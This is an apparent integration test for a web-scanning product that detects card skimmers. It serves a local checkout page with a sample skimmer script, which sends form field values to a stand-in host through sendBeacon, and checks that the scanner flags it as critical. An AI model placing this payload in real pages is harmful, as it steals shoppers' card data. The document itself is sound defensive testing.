// The started product judges what a scan kept: a skimmer is found by its code, seen in the laboratory, and told beside the result.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type ScanJudgements, scanJudgementsSchema, scanResultSchema } from '@tillwatch/contract/shapes'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { signUp, type TestPerson } from '../packages/server/test/support/sign-up.ts'
import { type Installation, installation, startScan, stateOf } from './faults/installation.ts'

const skimmer = `document.addEventListener('change', function (event) {
  navigator.sendBeacon('https://collect.stranger-shop.example/c', btoa(event.target.name + event.target.value))
}, true)`
const honest = `document.title = 'Pay - ' + document.forms.length`
let here: Installation
let shop: Server
beforeEach(async () => {
  here = await installation()
  shop = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end(
      `<h1>Pay</h1><form action="/pay" method="post"><input name="cc" autocomplete="cc-number"></form><script>${skimmer}</script><script>${honest}</script>`,
    )
  })
  await new Promise<void>((resolve) => shop.listen(0, '127.0.0.1', resolve))
})
afterEach(async () => {
  shop.closeAllConnections()
  shop.close()
  await here.remove()
})

async function read(origin: string, { bearer }: TestPerson, path: string): Promise<unknown> {
  return (await fetch(`${origin}/api/v1/scans/${path}`, { headers: bearer })).json()
}

it('tells of a skimmer on a scanned page, with what it did in the laboratory, and leaves the result as it was recorded', async () => {
  const run = here.start({ TILLWATCH_ALLOW_PRIVATE: '127.0.0.1', TILLWATCH_DETONATION_TIMEOUT_S: '30' })
  const origin = await run.origin()
  const ann = await signUp(origin)
  const id = await startScan(origin, ann, `http://127.0.0.1:${(shop.address() as AddressInfo).port}/`)
  await expect.poll(() => stateOf(origin, ann, id)).toMatch(/complete|partial/)
  const recorded = await read(origin, ann, `${id}/result`)
  let told: ScanJudgements | undefined
  await expect
    .poll(
      async () => {
        told = scanJudgementsSchema.parse(await read(origin, ann, `${id}/judgements`))
        return told.state
      },
      { timeout: 60_000 },
    )
    .toBe('examined')
  const [first, ...rest] = told?.scripts ?? []
  expect(told?.findings).toMatchObject([{ code: 'script-malicious', severity: 'critical', sha256: first?.sha256 }])
  expect(first?.laboratory?.behaviours).toContainEqual({
    kind: 'sends',
    gate: null,
    params: expect.objectContaining({ what: 'card', to: 'collect.stranger-shop.example' }),
  })
  expect(rest.map(({ verdict, notDetonated }) => [verdict, notDetonated])).toEqual([['benign', 'known-first-party']])
  expect(scanResultSchema.parse(await read(origin, ann, `${id}/result`))).toEqual(recorded)
  run.child.kill('SIGINT')
  expect(await run.ended).toBe(0)
})
